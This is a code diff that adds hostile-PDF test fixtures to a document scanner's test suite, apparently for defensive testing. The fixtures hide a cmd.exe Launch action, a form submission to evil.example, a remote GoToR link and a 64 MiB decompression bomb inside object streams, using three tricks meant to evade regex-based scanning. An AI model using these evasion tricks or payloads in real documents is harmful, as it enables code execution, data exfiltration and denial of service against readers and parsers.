@@ -305,6 +305,7 @@ export function hostileCorpus(): HostileFile[] {
     { name: '1 MB of "stream\\n"', bytes: Buffer.from(`%PDF-1.4\n${'stream\n'.repeat(Math.floor(MIB / 7))}endstream\n`, 'latin1'), code: 'DOCUMENT_UNREADABLE' },
     { name: '7.8 MB with 40 broken Flate streams', bytes: plainPdf('', forty), code: 'DOCUMENT_UNREADABLE' },
     { name: 'a /Launch written #-escaped in a Flate object stream', bytes: launchInObjStm(), code: 'DOCUMENT_UNSAFE' },
+    ...hiddenActionCorpus(),
     { name: 'an embedded file', bytes: plainPdf('/Names<</EmbeddedFiles<</Names[(a.exe) 7 0 R]>>>>', [{ num: 7, body: '<</Type/Filespec/F(a.exe)/EF<</F 8 0 R>>>>' }, { num: 8, body: '/Type/EmbeddedFile', stream: Buffer.from('MZ') }]), code: 'DOCUMENT_UNSAFE' },
   ];
 }
@@ -319,5 +320,95 @@ function launchInObjStm(): Buffer {
   return writePdf([...PAGES, { num: 10, body: '/Type/ObjStm/N 2/First 9/Filter/FlateDecode', stream: deflateSync(Buffer.from(objs, 'latin1')) }], '/Root 1 0 R', [
     { num: 1, objStm: 10, index: 0 },
     { num: 3, objStm: 10, index: 1 },
+  ]);
+}
+
+// ------------------------------------------------------------------ actions hidden from a naive stream scanner (issue 9 review)
+
+/** How an object stream hides from a scanner that reads its dictionary with regular expressions. */
+export type ObjStmTrick = 'subtype-image' | 'nested-decodeparms' | 'indirect-filter';
+
+const ACTIONS = {
+  Launch: '<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>',
+  SubmitForm: '<</S/SubmitForm/F<</FS/URL/F(https://evil.example/collect)>>/Flags 4>>',
+  GoToR: '<</S/GoToR/F(//evil.example/share/x.pdf)/D[0/Fit]>>',
+} as const;
+
+/** The object stream's dictionary entries for `trick` (object 9 holds the filter when it is indirect). */
+function trickDict(trick: ObjStmTrick): { filter: string; extra: PdfObject[] } {
+  switch (trick) {
+    case 'subtype-image':
+      return { filter: '/Filter/FlateDecode/Subtype/Image', extra: [] };
+    case 'nested-decodeparms':
+      // the stream's dictionary ends with a nested one: a scanner taking the last `<<` loses /Type and /Filter
+      return { filter: '/Filter/FlateDecode/DecodeParms<</Columns 1>>', extra: [] };
+    case 'indirect-filter':
+      return { filter: '/Filter 9 0 R', extra: [{ num: 9, body: '/FlateDecode' }] };
+  }
+}
+
+/**
+ * A page whose /AA open action (object 11) and link annotation action (object 13) are in a Flate
+ * object stream (object 10) hidden by `trick`; `padMib` MiB of zeros before the objects make the
+ * object stream a decompression bomb (then the actions are harmless links).
+ */
+export function actionsInObjStm(trick: ObjStmTrick, action: keyof typeof ACTIONS | 'URI', padMib = 0): Buffer {
+  const act = action === 'URI' ? '<</S/URI/URI(https://example.org/)>>' : ACTIONS[action];
+  const objs = `<</O ${act}>>\n${act}\n`;
+  const pad = padMib * MIB;
+  const header = `11 ${pad} 13 ${pad + objs.indexOf('\n') + 1} `.padEnd(32, ' ');
+  const data = padMib === 0 ? deflateSync(Buffer.from(header + objs, 'latin1')) : deflateAround(Buffer.from(header, 'latin1'), padMib, Buffer.from(objs, 'latin1'));
+  const { filter, extra } = trickDict(trick);
+  const page = { num: 4, body: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[12 0 R]/AA 11 0 R>>' };
+  return writePdf(
+    [
+      { num: 1, body: '<</Type/Catalog/Pages 2 0 R>>' },
+      { num: 2, body: '<</Type/Pages/Kids[4 0 R]/Count 1>>' },
+      page,
+      { num: 12, body: '<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/Border[0 0 0]/A 13 0 R>>' },
+      ...extra,
+      { num: 10, body: `/Type/ObjStm/N 2/First ${header.length}${filter}`, stream: data },
+    ],
+    '/Root 1 0 R',
+    [
+      { num: 11, objStm: 10, index: 0 },
+      { num: 13, objStm: 10, index: 1 },
+    ],
+  );
+}
+
+/** zlib of `head`, `mib` MiB of zeros and `tail`, built without holding the zeros (see deflatedZeros). */
+function deflateAround(head: Buffer, mib: number, tail: Buffer): Buffer {
+  const sync = { level: 9, finishFlush: constants.Z_SYNC_FLUSH };
+  const zeros = deflateRawSync(Buffer.alloc(MIB), sync);
+  // Adler-32 over head, the zeros (a unchanged, b grows by a per byte) and tail
+  let a = 1;
+  let b = 0;
+  const add = (bytes: Buffer) => {
+    for (const byte of bytes) {
+      a = (a + byte) % 65521;
+      b = (b + a) % 65521;
+    }
+  };
+  add(head);
+  b = (b + ((mib * MIB) % 65521) * a) % 65521;
+  add(tail);
+  const adler = Buffer.alloc(4);
+  adler.writeUInt32BE(((b << 16) | a) >>> 0);
+  return Buffer.concat([Buffer.from([0x78, 0xda]), deflateRawSync(head, sync), ...Array.from({ length: mib }, () => zeros), deflateRawSync(tail), adler]);
+}
+
+/** Every trick × Launch, SubmitForm, GoToR, and every trick as a bomb whose objects are harmless. */
+export function hiddenActionCorpus(): HostileFile[] {
+  const tricks: ObjStmTrick[] = ['subtype-image', 'nested-decodeparms', 'indirect-filter'];
+  const actions = ['Launch', 'SubmitForm', 'GoToR'] as const;
+  return tricks.flatMap((trick) => [
+    ...actions.map((action): HostileFile => ({
+      name: `a ${action} action in an object stream with ${trick}`,
+      bytes: actionsInObjStm(trick, action),
+      // an indirect filter is refused before its objects are read
+      code: trick === 'indirect-filter' ? 'DOCUMENT_UNREADABLE' : 'DOCUMENT_UNSAFE',
+    })),
+    { name: `a 64 MiB object stream bomb with ${trick}`, bytes: actionsInObjStm(trick, 'URI', 64), code: 'DOCUMENT_UNREADABLE' },
   ]);
 }
